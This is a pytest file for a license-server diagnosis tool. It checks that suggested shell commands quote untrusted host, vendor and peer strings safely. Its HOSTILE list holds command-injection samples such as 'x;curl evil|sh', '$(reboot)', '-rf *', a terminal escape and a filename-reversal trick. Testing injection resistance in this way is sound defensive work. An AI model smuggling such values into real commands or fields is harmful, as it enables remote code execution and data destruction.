"""Words that people copy: what is missing is left out, what is hostile stays one word of a command."""

from __future__ import annotations

import re
import shlex

import msgspec
import pytest

from lmwire.diagnosis import SPECS, diagnose
from lmwire.diagnosis.findings import findings_of
from lmwire.diagnosis.judge import judge
from lmwire.diagnosis.wording import verdict_of
from lmwire.evidence import Evidence
from lmwire.text import printable
from tests.diagnosis.test_variants import STORIES
from tests.evidence_maker import evidence, lmgrd, referred, vendor, walk
from tests.report.samples import WALKS

SEEN = {**WALKS, **{" ".join(key): seen for key, seen in STORIES.items()}}
HOSTILE = [
    "x;curl evil|sh",
    "$(reboot)",
    "`reboot`",
    "a b",
    "it's",
    '"quoted"',
    "&&reboot>",
    "\x1b]0;owned\x07",
    "\u202egnp.exe",
    "{server}{0}%s",
    "-rf *",
    "\\",
]
_SPAN = re.compile(r"`([^`]*)`")


def words(seen: Evidence, judged: Evidence | None = None) -> list[str]:
    """Everything that is said of `seen`; with `judged`, as its judgement would have it."""
    judgement = judge(judged or seen)
    verdict = verdict_of(seen, judgement)
    findings = [finding.text for finding in findings_of(seen, judgement.id)]
    return [verdict.headline, verdict.cause, *verdict.remedies, *findings]


def filled(seen: Evidence, text: str) -> Evidence:
    """`seen` with `text` for every string that a network or a user chose."""
    change = msgspec.structs.replace
    legs = tuple(change(leg, host=text, peer=text, detail=text, version=text) for leg in seen.legs)
    referral = None if seen.referral is None else change(seen.referral, host=text)
    looks = tuple(change(look, name=text, detail=text) for look in seen.resolutions)
    return change(
        seen, target=text, host=text, vendor=text, daemons=(text,), legs=legs, referral=referral, resolutions=looks
    )


def test_every_verdict_is_tried_here() -> None:
    missing = set(SPECS) - {judge(seen).id for seen in SEEN.values()}
    assert not missing, f"no walk in WALKS of tests/report/samples.py gives {', '.join(missing)}"


@pytest.mark.parametrize("name", SEEN)
def test_a_vendor_daemon_that_nobody_named_is_left_out(name: str) -> None:
    seen = msgspec.structs.replace(SEEN[name], vendor="")
    for text in words(seen, judged=SEEN[name]) + words(seen):
        assert "None" not in text
        assert "`VENDOR `" not in text
        assert "()" not in text
        for span in _SPAN.findall(text):
            assert "the vendor daemon" not in span
            assert not re.search(r"--vendor(?! NAME)", span)
            assert not re.match(r"VENDOR(?! ibmratl port=)", span)  # a daemon that gave its name itself


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", SEEN)
def test_a_hostile_string_stays_one_word_of_a_command(name: str, text: str) -> None:
    seen = filled(SEEN[name], text)
    said = words(seen, judged=SEEN[name])
    safe = shlex.quote(printable(text))
    assert all(sentence.isprintable() for sentence in said)
    for sentence in said:
        for before in ("--vendor ", "telnet "):
            for after in sentence.split(before)[1:]:
                assert after.startswith((safe, "NAME"))
        if "`" not in text:
            for span in _SPAN.findall(sentence):
                if span.startswith(("lmwire ", "telnet ", "ip ", "Find-NetRoute ")) and "…" not in span:
                    assert shlex.join(shlex.split(span)) == span
    assert diagnose(seen).verdict.id in SPECS


def test_the_command_for_the_server_names_the_vendor_daemon() -> None:
    remedies = diagnose(evidence(lmgrd("silent"))).verdict.remedies
    assert "`lmwire diagnose 27000@localhost --vendor ibmratl`" in remedies[0]
    assert "`lmwire diagnose 27000@localhost`" in diagnose(evidence(lmgrd("silent"), vendor="")).verdict.remedies[0]


def test_a_port_to_pin_without_a_name() -> None:
    seen = msgspec.structs.replace(walk(vendor("filtered")), vendor="")
    remedies = verdict_of(seen, judge(walk(vendor("filtered")))).remedies
    told = "Pin that port in the server's license file, unless it is pinned: `port=27001` on its VENDOR line, then"
    assert remedies[-1].startswith(told)


def test_an_entry_of_the_license_path_is_one_word() -> None:
    seen = evidence(lmgrd("hello", peer="x;y"), lmgrd(port=27001), host="l s", port=None, referral=referred())
    text = "\n".join(words(seen))
    assert "`'27001@l s'`" in text
    assert "`'@l s'`" in text
